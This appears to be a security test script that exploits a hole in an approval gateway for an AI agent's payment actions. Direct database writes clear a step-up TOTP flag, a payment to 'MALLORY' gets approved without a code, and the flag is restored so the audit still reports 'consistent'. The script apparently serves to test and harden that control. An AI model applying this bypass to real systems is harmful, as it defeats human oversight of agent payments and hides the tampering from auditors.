# attack36 HOLE H1: a database writer sets `approvals.step_up = 0` on a pending step-up approval; the approver's token
# alone (no TOTP code) then approves it over HTTP, the agent's release is a permit, and once the writer sets the flag
# back to 1, `journal audit` says "consistent" (no totp_step_accepted was journaled for that vote).
# Usage: python3 h1_step_up_row_flag.py [seal]
import sys, os, time, shutil, json
sys.path.insert(0, os.path.dirname(__file__)); from lib import *
seal = len(sys.argv) > 1 and sys.argv[1] == "seal"
D = f"/tmp/attack36/h1{'s' if seal else ''}"; shutil.rmtree(D, ignore_errors=True)
e = Env(D, seal=seal); PORT = 18470 + (1 if seal else 0)
e.token("bot", "agent"); e.token("alice", "approver", totp=True)
p = e.serve(PORT); U = f"http://127.0.0.1:{PORT}"
def decide(params, rid):
    r = requests.post(f"{U}/v1/decide", headers=e.h("bot"), json={"request_id": rid, "action": "payments.send", "params": params})
    j = r.json(); return {k: j.get(k) for k in ("verdict", "reasons", "replayed", "approval_id", "error") if k in j}
def show(l, r): print(f"{l}: {str(r)[:300]}", flush=True)
try:
    for mode in ("running", "before start"):
        rid = f"pay-{mode.replace(' ', '_')}"
        d = requests.post(f"{U}/v1/decide", headers=e.h("bot"), json={"request_id": rid, "action": "payments.send", "params": {"amount_eur": 499, "payee": "MALLORY"}}).json()
        a, g = d["approval_id"], d["digest"]
        show(f"[{mode}] alice without a code (control)", e.approve(PORT, "alice", a, g, None)[0])
        if mode == "before start": e.stop(p)
        e.sql("UPDATE approvals SET step_up = 0 WHERE id = ?", (a,))
        if mode == "before start": p = e.serve(PORT)
        show(f"[{mode}] step_up=0 on the row; alice without a code", e.approve(PORT, "alice", a, g, None))
        e.sql("UPDATE approvals SET step_up = 1 WHERE id = ?", (a,))
        show(f"[{mode}] flag restored; agent releases", decide({"amount_eur": 499, "payee": "MALLORY"}, rid))
        show(f"[{mode}] totp_step_accepted events", e.sql("SELECT count(*) FROM journal WHERE data LIKE '%totp_step_accepted%'"))
        show(f"[{mode}] audit, verify", e.audit())
finally:
    e.stop_all()
